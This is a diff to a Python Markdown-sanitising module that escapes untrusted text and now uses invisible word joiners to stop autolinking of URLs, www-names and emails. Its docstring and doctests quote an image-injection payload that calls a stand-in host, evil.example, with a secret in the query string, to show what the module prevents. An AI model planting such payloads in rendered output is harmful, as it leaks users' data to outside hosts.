@@ -6,10 +6,10 @@ such as ``![x](https://evil.example/?q=secret)`` makes the reader's browser fetc
 mislead. Every place that puts such text into Markdown or mrkdwn goes through here.
 
 Example:
-    >>> print(literal("![x](https://evil.example/?q=1)"))
-    \\!\\[x\\]\\(https\\://evil.example/?q=1\\)
-    >>> print(safe_markdown("**ok** ![x](https://evil.example/a.png) <img src=x>"))
-    **ok** !\\[x](https\\://evil.example/a.png) &lt;img src=x>
+    >>> print(literal("![x](https://evil.example/?q=1)").replace(WORD_JOINER, "+"))
+    \\!\\[x\\]\\(https+://evil.example/?q=1\\)
+    >>> print(safe_markdown("**ok** ![x](https://x.example/a.png) <img>").replace(WORD_JOINER, "+"))
+    **ok** !\\[x](https+://x.example/a.png) &lt;img>
 """
 
 from __future__ import annotations
@@ -17,9 +17,12 @@ from __future__ import annotations
 import re
 
 # Characters that start images, links, HTML, entities, emphasis, code and table cells.
-_MARKDOWN_SYNTAX = re.compile(r"([\\`*_\[\]()<>!|~&#@])")
-# GFM turns bare "https://..." and "www...." into links; an escape inside breaks that.
-_BARE_LINK = re.compile(r"(?<=[A-Za-z]):(?=//)|(?<=\bwww)\.", re.IGNORECASE)
+_MARKDOWN_SYNTAX = re.compile(r"([\\`*_\[\]()<>!|~&#])")
+# GFM links bare "https://...", "www...." and "name@host" in the text it has already
+# unescaped, so a backslash cannot stop it; an invisible word joiner before ":", "." or
+# "@" does, and reads the same.
+_BARE_LINK = re.compile(r"(?<=[A-Za-z])(?=://)|(?<=\bwww)(?=\.)|(?<=\w)(?=@)", re.IGNORECASE)
+WORD_JOINER = "\u2060"
 _LINE_BREAK = re.compile(r"\r\n|[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]")
 # Images and links both start with "["; HTML tags, comments and autolinks with "<x", "</", "<!".
 _LINK_START = re.compile(r"\[")
@@ -34,8 +37,7 @@ def literal(text: str) -> str:
     line breaks become spaces, so the text cannot leave the heading or cell it is put in.
     """
     one_line = _LINE_BREAK.sub(" ", text)
-    escaped = _MARKDOWN_SYNTAX.sub(r"\\\1", one_line)
-    return _BARE_LINK.sub(lambda match: "\\" + match.group(), escaped)
+    return _BARE_LINK.sub(WORD_JOINER, _MARKDOWN_SYNTAX.sub(r"\\\1", one_line))
 
 
 def quoted(text: str, max_lines: int | None = None) -> str:
@@ -61,7 +63,7 @@ def code_block(text: str, language: str = "text") -> str:
 def safe_markdown(markdown: str) -> str:
     """Return Markdown the product wrote, which may quote untrusted text, with no image, link
     or HTML left: emphasis, lists, code and tables stay; nothing is fetched when shown."""
-    unlinked = _BARE_LINK.sub(lambda match: "\\" + match.group(), _LINK_START.sub(r"\\[", markdown))
+    unlinked = _BARE_LINK.sub(WORD_JOINER, _LINK_START.sub(r"\\[", markdown))
     return _HTML_START.sub("&lt;", unlinked)
 
 
